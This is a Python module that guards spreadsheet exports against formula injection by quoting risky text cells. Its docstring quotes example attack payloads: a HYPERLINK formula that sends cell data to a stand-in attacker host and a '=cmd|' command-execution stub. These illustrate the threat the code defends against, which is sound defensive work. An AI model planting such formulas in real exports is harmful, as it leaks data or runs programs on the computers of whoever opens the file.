"""Cells that a spreadsheet shows as text, never runs: the defence against formula injection.

Every CSV and Excel file hedui writes for people (case exports, field-check samples, import
error files, quarantine lists, the audit log, health reminders, the Excel report) carries text
that came from outside: names typed by clerks, cells of an imported ledger, user names. Excel,
WPS and LibreOffice treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also when a tab or carriage return comes first; a name such as
``=HYPERLINK("http://evil.example/?"&A1)`` would then send data away, or ``=cmd|...`` run a
program, the moment an inspector opens the file.

:func:`neutralise` puts a ``'`` in front of such text (OWASP's advice), which every spreadsheet
shows as the text itself. Only text is changed: a number stays a number (``-3`` written as an
``int`` is a negative number, not a formula), so figures remain usable. Leading spaces and line
breaks before a trigger do not hide it (``" =1+1"`` is neutralised too).

This module imports nothing from hedui, so every layer may use it. The files hedui writes for
itself to read back (the link directory's ``clusters.csv``, the ledger exported for a
reconciliation run, a synthetic county) are data interchange, not spreadsheets, and are written
exactly as the data is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TypeVar

__all__ = ["FORMULA_PATTERN", "is_formula_like", "neutralise", "neutralise_row"]

FORMULA_PATTERN = r"^(?:[ \t\r\n]*[=+\-@]|[\t\r])"
"""A regular expression (Python and Rust/polars syntax) matching text a spreadsheet may run:
a trigger character first, or after leading blanks and line breaks; or a tab or carriage
return first."""

_FORMULA = re.compile(FORMULA_PATTERN)
_T = TypeVar("_T")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet might read ``text`` as a formula."""
    return _FORMULA.match(text) is not None


def neutralise(value: _T) -> _T | str:
    """``value`` with a ``'`` in front if it is text a spreadsheet might run; else unchanged.

    Numbers, dates, ``None`` and every other non-text value are returned as they are.
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`neutralise`."""
    return [neutralise(value) for value in values]
